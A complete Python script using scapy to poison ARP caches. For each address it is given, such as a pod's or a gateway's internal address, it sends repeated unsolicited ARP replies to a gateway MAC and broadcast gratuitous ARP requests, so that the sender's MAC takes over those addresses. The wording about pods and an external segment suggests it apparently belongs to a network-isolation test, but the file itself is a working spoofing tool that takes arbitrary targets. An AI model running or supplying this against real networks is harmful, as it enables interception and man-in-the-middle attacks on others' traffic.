#!/usr/bin/env python3
"""arp_poison.py IFACE GW_MAC ROUNDS ADDR...: from the external segment, claim each ADDR
(a pod's, the gateway's int address) ROUNDS times, 0.05 s apart: an unsolicited ARP reply to
the gateway and a gratuitous ARP request (sender = target = ADDR, broadcast)."""
import sys
import time
from scapy.all import ARP, Ether, get_if_hwaddr, sendp, conf

conf.verb = 0
iface, gwmac, rounds, addrs = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4:]
me = get_if_hwaddr(iface)
frames = []
for a in addrs:
    frames.append(Ether(src=me, dst=gwmac) /
                  ARP(op=2, hwsrc=me, psrc=a, hwdst=gwmac, pdst="198.51.100.1"))
    frames.append(Ether(src=me, dst="ff:ff:ff:ff:ff:ff") /
                  ARP(op=1, hwsrc=me, psrc=a, hwdst="00:00:00:00:00:00", pdst=a))
for _ in range(rounds):
    sendp(frames, iface=iface)
    time.sleep(0.05)
print(len(frames) * rounds)
